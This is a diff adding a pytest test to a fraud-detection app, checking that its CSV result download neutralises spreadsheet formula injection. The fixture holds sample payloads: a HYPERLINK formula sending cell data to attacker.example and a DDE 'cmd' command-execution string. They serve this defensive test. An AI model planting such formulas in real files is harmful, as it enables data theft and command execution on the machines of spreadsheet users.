@@ -1,10 +1,11 @@
 """Form values and uploaded CSV files: what is accepted, and errors that name the bad field, column or line."""
 
+import csv
 from pathlib import Path
 
 import pandas as pd
 import pytest
-from fraud_app.batch import MAX_ROWS, BatchError, read_transactions
+from fraud_app.batch import MAX_ROWS, BatchError, read_transactions, write_result
 from fraud_app.features import EXAMPLES, FEATURE_NAMES, NO, YES, FeatureError, transaction_row
 
 NORMAL = {"distance_from_home": 2.0, "distance_from_last_transaction": 0.5, "ratio_to_median_purchase_price": 0.9,
@@ -93,3 +94,38 @@ def test_too_many_rows_are_refused(tmp_path: Path) -> None:
     pd.DataFrame([[1, 2, 3, 1, 0, 0, 1]] * (MAX_ROWS + 1), columns=FEATURE_NAMES).to_csv(path, index=False)
     with pytest.raises(BatchError, match=f"{MAX_ROWS + 1:,} transactions; at most {MAX_ROWS:,}"):
         read_transactions(path)
+
+
+# Uploaded text a spreadsheet would run (OWASP CSV injection), and what the scored download holds instead.
+FORMULAS = {
+    '=HYPERLINK("http://attacker.example/?"&A1,"click")': '\'=HYPERLINK("http://attacker.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\tx": "'\tx",
+    "-5": "-5",
+    "3.5e2": "3.5e2",
+    "plain note": "plain note",
+}
+
+
+def test_the_download_neutralises_formula_cells_and_headers(tmp_path: Path) -> None:
+    """Cells and column names starting with =, +, -, @, tab or CR are written with a leading quote (text in a
+    spreadsheet), every text cell is quoted; plain numbers, the features and the probability are unchanged."""
+    rows = "".join(f"1,2,3,1,0,0,1,{csv_field(text)}\n" for text in FORMULAS)
+    frame = read_transactions(_csv(tmp_path, f"{HEADER},=note\n{rows}"))
+    frame.insert(0, "fraud_probability", 0.25)
+    path = write_result(frame, tmp_path)
+    with path.open(newline="") as handle:
+        header, *lines = list(csv.reader(handle))
+    assert header == ["fraud_probability", *FEATURE_NAMES, "'=note"]
+    assert [line[-1] for line in lines] == list(FORMULAS.values())
+    assert all(line[:8] == ["0.25", "1.0", "2.0", "3.0", "1.0", "0.0", "0.0", "1.0"] for line in lines)
+    raw = path.read_text().splitlines()  # numbers bare, text quoted
+    assert raw[1].startswith("0.25,1.0,2.0,3.0,")
+    assert raw[1].endswith('"\'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"')
+
+
+def csv_field(text: str) -> str:
+    """``text`` as one CSV field."""
+    return '"' + text.replace('"', '""') + '"'
